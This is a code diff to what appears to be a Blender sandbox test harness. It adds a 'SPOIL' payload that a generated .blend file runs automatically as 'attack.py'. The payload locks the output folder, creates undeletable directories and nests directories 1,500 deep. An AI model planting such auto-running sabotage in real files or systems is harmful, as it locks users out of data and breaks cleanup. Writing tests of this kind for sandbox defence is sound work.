@@ -177,6 +177,18 @@ def _():
 with open(os.path.join(os.environ["HOME"], "attempts.json"), "w") as file:
     json.dump(tried, file, indent=1)
 """
+SPOIL = r"""
+import os
+home = os.environ["HOME"]
+os.chmod(os.path.join(os.path.dirname(home), "frames"), 0)
+os.makedirs(home + "/locked/inner")
+os.chmod(home + "/locked", 0)
+os.chdir(home)
+for _ in range(1_500):
+    os.mkdir("nested")
+    os.chdir("nested")
+"""
+"""Leaves what cannot be deleted the usual way, and locks the folder of its frames."""
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -203,7 +215,7 @@ class Targets:
         (project / TARGETS).write_text(json.dumps(asdict(self)))
 
 
-def main(blend: str) -> None:
+def main(blend: str, program: str = ATTACK) -> None:
     """Run in a Blender."""
     import bpy
 
@@ -211,6 +223,6 @@ def main(blend: str) -> None:
 
     base_scene()
     text = bpy.data.texts.new("attack.py")
-    text.write(ATTACK)
+    text.write(program)
     text.use_module = True
     bpy.ops.wm.save_as_mainfile(filepath=blend, compress=False)
